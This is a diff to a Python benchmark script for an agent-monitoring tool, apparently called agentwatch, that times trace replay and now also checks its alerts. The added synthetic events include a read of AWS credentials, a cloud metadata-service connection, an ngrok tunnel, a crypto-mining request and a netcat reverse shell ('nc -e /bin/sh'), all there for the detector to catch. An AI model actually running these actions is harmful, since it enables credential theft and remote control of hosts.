@@ -3,13 +3,20 @@
 
 Generates a trace of N events (default 1,000,000) shaped like an agent's work:
 processes spawning and exec'ing, opens of libraries and sources, reads/writes,
-connects and socket writes, DNS exchanges, exits. Times `agentwatch replay`
-over it (CPU time of the child, wall time beside it), with the pack and with no
-rules at all (reading and the process table alone), and `jq` selecting the
-same events (the execs, connects and socket sends the pack looks at) as a
-yardstick. The trace is cached in /tmp between runs.
-Usage: bench/replay.py [--events N] [--runs R] [--keep]
+connects and socket writes, DNS exchanges, exits; every ATTACK_EVERY rounds a
+few attacks the pack must catch (a credential read, the metadata service, a
+tunnel service reached by a name learnt from a DNS answer, a netcat shell, a
+stratum request), so the verdicts are checked, not only the speed. Times
+`agentwatch replay` over it with the built-in pack and with no rules (CPU time
+of the child, wall time beside it), and `jq` selecting the same events (the
+execs, connects and socket sends the pack looks at) as a yardstick. Prints the
+alerts per rule; --compare OTHER_AGENTWATCH replays with another build too and
+fails unless both give the same alerts. The trace is cached in /tmp between runs.
+Usage: bench/replay.py [--events N] [--runs R] [--keep] [--compare BINARY]
 """
+import collections
+import hashlib
+import tempfile
 import argparse
 import json
 import os
@@ -22,6 +29,17 @@ import time
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 AW = os.path.join(ROOT, ".build/release/agentwatch")
 WALL0 = 1_795_881_030_215_206_113
+# Rounds (about 23 events each) between two bursts of attacks.
+ATTACK_EVERY = 500
+TRACE_VERSION = 2
+
+
+def dns_answer(name, ip):
+    """A DNS response (one A record) as the trace writes payloads: one code point per byte."""
+    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    msg = bytes([0x12, 0x34, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]) + q + bytes([0, 1, 0, 1])
+    msg += bytes([0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]) + bytes(int(x) for x in ip.split("."))
+    return msg.decode("latin-1")
 
 
 def generate(path, n):
@@ -68,6 +86,32 @@ def generate(path, n):
            "remote": {"family": "inet", "addr": "93.184.216.34", "port": 443}}
     udp = {"fd": 4, "type": "ipv4", "name": "10.0.0.2:5353->127.0.0.53:53", "proto": "udp",
            "remote": {"family": "inet", "addr": "127.0.0.53", "port": 53}}
+    def attacks():
+        nonlocal pid
+        # Credentials read by the agent itself; the metadata service; a tunnel service by its name.
+        syscall(root, "openat", 257, {"dirfd": at_fdcwd, "filename": {"path": "/home/agent/.aws/credentials"}, "flags": rdonly}, 3,
+                {"fd": {"fd": 3, "type": "file", "name": "/home/agent/.aws/credentials"}})
+        meta = dict(tcp, name="10.0.0.2:40001->169.254.169.254:80", remote={"family": "inet", "addr": "169.254.169.254", "port": 80})
+        syscall(root, "connect", 42, {"fd": meta, "addr": {"family": "inet", "addr": "169.254.169.254", "port": 80}}, 0)
+        syscall(root, "recvfrom", 45, {"fd": udp, "size": 512, "flags": {"flags": "", "raw": 0}}, 61,
+                {"data": {"data": dns_answer("x1.tcp.ngrok-agent.com", "3.134.39.220"), "len": 61},
+                 "addr": {"family": "inet", "addr": "127.0.0.53", "port": 53}})
+        ngrok = dict(tcp, name="10.0.0.2:40002->3.134.39.220:443", remote={"family": "inet", "addr": "3.134.39.220", "port": 443})
+        syscall(root, "connect", 42, {"fd": ngrok, "addr": {"family": "inet", "addr": "3.134.39.220", "port": 443}}, 0)
+        syscall(root, "write", 1, {"fd": tcp, "data": {"data": '{"id":1,"method":"mining.subscribe","params":[]}', "len": 48}, "count": 48}, 48)
+        # A netcat handing a shell to a connection: killed at execve entry.
+        pid += 1
+        e = base(pid, "spawn")
+        e.update({"ppid": root, "via": "fork", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3"})
+        line(e)
+        argv = ["nc", "-e", "/bin/sh", "10.0.0.9", "4444"]
+        e = base(pid, "syscall")
+        e.update({"sc": "execve", "nr": 59, "args": {"filename": {"path": "/usr/bin/nc"}, "argv": {"strv": argv}, "envp": {"hex": "0x7ffd0000"}}})
+        line(e)
+        e = base(pid, "exit")
+        e.update({"signal": 9, "process": True})
+        line(e)
+
     root = pid
     e = base(root, "spawn")
     e.update({"ppid": 1, "via": "root", "exe": "/usr/bin/python3", "argv": ["python3", "agent.py"], "cwd": "/work", "uid": 1000, "comm": "python3"})
@@ -78,6 +122,8 @@ def generate(path, n):
     i = 0
     while count < n:
         i += 1
+        if i % ATTACK_EVERY == 0:
+            attacks()
         # The agent itself: reads sources, talks to its API, resolves names.
         for k in range(6):
             syscall(root, "openat", 257, {"dirfd": at_fdcwd, "filename": {"path": f"/work/src/file{k}.py"}, "flags": rdonly}, 3,
@@ -126,51 +172,97 @@ def cpu_of_child(cmd, stdout=subprocess.DEVNULL):
     return p.returncode, cpu, wall, p.stderr.decode(errors="replace")
 
 
-def measure(events=1_000_000, runs=3, log=print):
-    """Replay throughput: {"events", "bytes", "pack", "none", "jq"}; each reader's
-    {"cpu", "wall"} (best of runs by CPU), {"error"} or None (jq missing).
-    The trace is generated once and cached in /tmp."""
-    path = f"/tmp/agentwatch-replay-bench-{events}.jsonl"
+def replay(binary, path, extra=(), alerts=None):
+    """CPU and wall seconds of one replay, or an error string."""
+    cmd = [binary, "replay", path, "--fail-on", "emergency"] + list(extra)
+    if alerts:
+        cmd += ["--alerts", alerts]
+    rc, cpu, wall, err = cpu_of_child(cmd)
+    if rc not in (0, 1):
+        return None, None, f"{binary} replay exited {rc}: {err[-400:]}"
+    return cpu, wall, None
+
+
+def alert_digest(path):
+    """Alerts per rule and a digest of every alert line (rule, pid, syscall, seq, fields...)."""
+    per_rule = collections.Counter()
+    h = hashlib.sha256()
+    with open(path, "rb") as f:
+        for raw in f:
+            per_rule[json.loads(raw)["rule"]] += 1
+            h.update(raw)
+    return per_rule, h.hexdigest()[:16]
+
+
+def trace_path(events, log=print):
+    """The generated trace, made once and cached in /tmp (written under a temporary name first)."""
+    path = f"/tmp/agentwatch-replay-bench-v{TRACE_VERSION}-{events}.jsonl"
     if not os.path.exists(path):
         t0 = time.monotonic()
         got = generate(path + ".tmp", events)
         os.rename(path + ".tmp", path)
         log(f"generated {got} events ({os.path.getsize(path) / 1e6:.0f} MB) in {time.monotonic() - t0:.1f}s: {path}")
+    return path
+
+
+def measure(events=1_000_000, runs=3, log=print, compare=None):
+    """Replay throughput: {"events", "bytes", "path", "pack", "none", "jq", "alerts"}; each reader's
+    {"cpu", "wall"} (best of runs by CPU), {"error"}, or None (jq missing); "alerts" is
+    {"count", "digest", "per_rule"} of the replay with the pack (and "compare" when asked)."""
+    path = trace_path(events, log)
     size = os.path.getsize(path)
     with open(path) as f:
         lines = sum(1 for _ in f) - 1
     log(f"trace: {lines} events, {size / 1e6:.0f} MB, {size // max(lines, 1)} bytes/event")
     res = {"events": lines, "bytes": size, "path": path}
 
-    def best_of(cmd, ok=(0, 1), n=runs):
+    for key, label, extra in (("pack", "built-in pack", []), ("none", "no rules, --no-defaults", ["--no-defaults"])):
         best = None
-        for _ in range(n):
-            rc, cpu, wall, err = cpu_of_child(cmd)
-            if rc not in ok:
-                return {"error": f"exit {rc}: {err[-400:]}"}
-            best = (cpu, wall) if best is None or cpu < best[0] else best
-        return {"cpu": best[0], "wall": best[1]}
-
-    for key, label, extra in (("pack", "agentwatch replay (built-in pack)", []),
-                              ("none", "agentwatch replay --no-defaults (no rules)", ["--no-defaults"])):
-        r = res[key] = best_of([AW, "replay", *extra, path, "--fail-on", "emergency"])
-        if r.get("error"):
-            log(f"{label} failed ({r['error']})")
+        for _ in range(runs):
+            cpu, wall, err = replay(AW, path, extra)
+            if err:
+                best = {"error": err}
+                break
+            if best is None or cpu < best["cpu"]:
+                best = {"cpu": cpu, "wall": wall}
+        res[key] = best
+        if best.get("error"):
+            log(f"agentwatch replay ({label}) failed: {best['error']}")
         else:
-            log(f"{label}: {r['cpu']:.2f}s CPU, {r['wall']:.2f}s wall -> {lines / r['cpu'] / 1e6:.2f}M events/s of CPU "
-                f"({lines / r['wall'] / 1e6:.2f}M/s wall), best of {runs}")
+            log(f"agentwatch replay ({label}): {best['cpu']:.2f}s CPU, {best['wall']:.2f}s wall -> "
+                f"{lines / best['cpu'] / 1e6:.2f}M events/s of CPU ({lines / best['wall'] / 1e6:.2f}M/s wall), best of {runs}")
+
+    with tempfile.TemporaryDirectory() as tmp:
+        mine = os.path.join(tmp, "alerts.jsonl")
+        _, _, err = replay(AW, path, alerts=mine)
+        if not err:
+            per_rule, digest = alert_digest(mine)
+            res["alerts"] = {"count": sum(per_rule.values()), "digest": digest, "per_rule": dict(per_rule)}
+            log(f"alerts: {sum(per_rule.values())} (digest {digest}): " + ", ".join(f"{r} {c}" for r, c in sorted(per_rule.items())))
+        if compare:
+            theirs = os.path.join(tmp, "theirs.jsonl")
+            cpu, _, err = replay(compare, path, alerts=theirs)
+            if err:
+                res["compare"] = {"error": err}
+            else:
+                other_rules, other_digest = alert_digest(theirs)
+                res["compare"] = {"cpu": cpu, "digest": other_digest, "count": sum(other_rules.values())}
+                log(f"{compare}: {cpu:.2f}s CPU -> {lines / cpu / 1e6:.2f}M events/s, alerts "
+                    f"{sum(other_rules.values())} (digest {other_digest})")
 
     jq = shutil.which("jq")
+    res["jq"] = None
     if jq:
         # The events the pack's rules look at: execs, connects and bytes sent on sockets.
         filt = 'select(.ev == "exec" or .sc == "execve" or .sc == "connect" or ((.sc == "write" or .sc == "sendto") and .args.data != null))'
-        r = res["jq"] = best_of([jq, "-c", filt, path], ok=(0,), n=1)
-        if r.get("error"):
-            log(f"jq failed ({r['error'][-300:]})")
+        rc, cpu, wall, err = cpu_of_child([jq, "-c", filt, path])
+        if rc != 0:
+            res["jq"] = {"error": f"jq exited {rc}: {err[-300:]}"}
+            log(f"jq failed ({rc}): {err[-300:]}")
         else:
-            log(f"jq selecting the same events (one run): {r['cpu']:.2f}s CPU, {r['wall']:.2f}s wall -> {lines / r['cpu'] / 1e6:.2f}M events/s of CPU")
+            res["jq"] = {"cpu": cpu, "wall": wall}
+            log(f"jq selecting the same events: {cpu:.2f}s CPU, {wall:.2f}s wall -> {lines / cpu / 1e6:.2f}M events/s of CPU")
     else:
-        res["jq"] = None
         log("jq not installed (make deps installs it)")
     return res
 
@@ -180,14 +272,22 @@ def main():
     ap.add_argument("--events", type=int, default=1_000_000)
     ap.add_argument("--runs", type=int, default=3)
     ap.add_argument("--keep", action="store_true", help="keep the generated trace")
+    ap.add_argument("--compare", metavar="BINARY", help="another agentwatch build that must give the same alerts")
     a = ap.parse_args()
     if not os.access(AW, os.X_OK):
         sys.exit("bench/replay.py: build first (make build)")
-    res = measure(a.events, a.runs)
+    res = measure(a.events, a.runs, compare=a.compare)
+    failed = [k for k in ("pack", "none") if res[k].get("error")]
+    if a.compare:
+        c = res.get("compare", {})
+        if c.get("error") or c.get("digest") != res.get("alerts", {}).get("digest"):
+            failed.append("compare: the alerts differ from the other build's")
+        else:
+            print("same alerts as the other build")
     if not a.keep and a.events != 1_000_000:
         os.remove(res["path"])
-    if any(isinstance(v, dict) and v.get("error") for v in res.values()):
-        sys.exit(1)
+    if failed:
+        sys.exit("bench/replay.py: " + "; ".join(failed))
 
 
 if __name__ == "__main__":
